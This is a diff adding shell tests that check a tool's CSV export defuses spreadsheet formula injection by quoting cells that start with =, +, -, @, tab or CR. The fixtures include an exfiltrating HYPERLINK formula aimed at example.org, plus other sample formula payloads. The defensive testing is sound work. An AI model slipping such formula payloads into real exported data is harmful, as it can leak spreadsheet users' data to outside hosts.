@@ -56,6 +56,50 @@ expect "  DIR typed with its slash: no second one" 0 "$TMP/csv/venues.csv"
 tip export talk --format csv --output "$TMP/no/such/dir"
 expect_stderr "a folder that cannot be made" 2 "tip: cannot create '$TMP/no/such/dir'"
 
+# ---- CSV that spreadsheets open safely ----
+mkdir -p "$TMP/hostile" && cd "$TMP/hostile" && git init -q . && mkdir -p schemas records/talks
+cp "$TMP/export/schemas/talk.schema.yaml" schemas/
+cat >records/talks/formula.yaml <<'YAML'
+title: =HYPERLINK("http://example.org/?"&A1,"click")
+level: informed
+minutes: -3
+score: -2.5
+tags:
+  - 'a; b'
+  - c
+  - '@SUM(1)'
+  - 'back\slash'
+notes: "+1"
+YAML
+printf 'title: "-2+3"\nnotes: "@here"\n' >records/talks/minus.yaml
+printf 'title: "\\tTab"\nnotes: "\\rReturn"\n' >records/talks/blank.yaml
+printf 'title: "safe = text"\ntags: [plain]\n' >records/talks/safe.yaml
+tip export talk --format csv
+printf 'id,title,level,given,minutes,score,online,tags,sessions,notes\r
+blank,\047\tTab,,,,,,,,"\047\rReturn"\r
+formula,"\047=HYPERLINK(""http://example.org/?""&A1,""click"")",informed,,-3,-2.5,,a\\; b; c; @SUM(1); back\\\\slash,,\047+1\r
+minus,\047-2+3,,,,,,,,\047@here\r
+safe,safe = text,,,,,,plain,,\r
+' >"$TMP/want.csv"
+if [ "$status" -eq 0 ] && cmp -s "$TMP/out" "$TMP/want.csv"; then
+	ok "csv: text starting with = + - @ tab or CR gets a leading ', numbers do not; list items escape ; and \\"
+else
+	not_ok "csv: text starting with = + - @ tab or CR gets a leading ', numbers do not; list items escape ; and \\" \
+		"want:" "$(cat "$TMP/want.csv")"
+fi
+tip list talk --format csv
+check "  tip list --format csv writes the same" cmp "$TMP/out" "$TMP/want.csv"
+tip export talk --format csv --bom
+check "--bom: a UTF-8 byte order mark first, then the same CSV" \
+	test "$(head -c 3 "$TMP/out" | od -An -tx1 | tr -d ' ')" = efbbbf -a \
+	"$(tail -c +4 "$TMP/out" | md5sum)" = "$(md5sum <"$TMP/want.csv")"
+tip export all --format csv --bom --output "$TMP/bom"
+check "--bom with --output: in each file" \
+	test "$(head -c 3 "$TMP/bom/talks.csv" | od -An -tx1 | tr -d ' ')" = efbbbf
+tip export talk --format json --bom
+expect_stderr "--bom only for csv" 2 "--bom is for --format csv"
+cd "$TMP/export"
+
 # ---- what export refuses ----
 tip export talk
 expect_stderr "--format is needed" 2 "tip: tip export needs --format csv, json or skos"
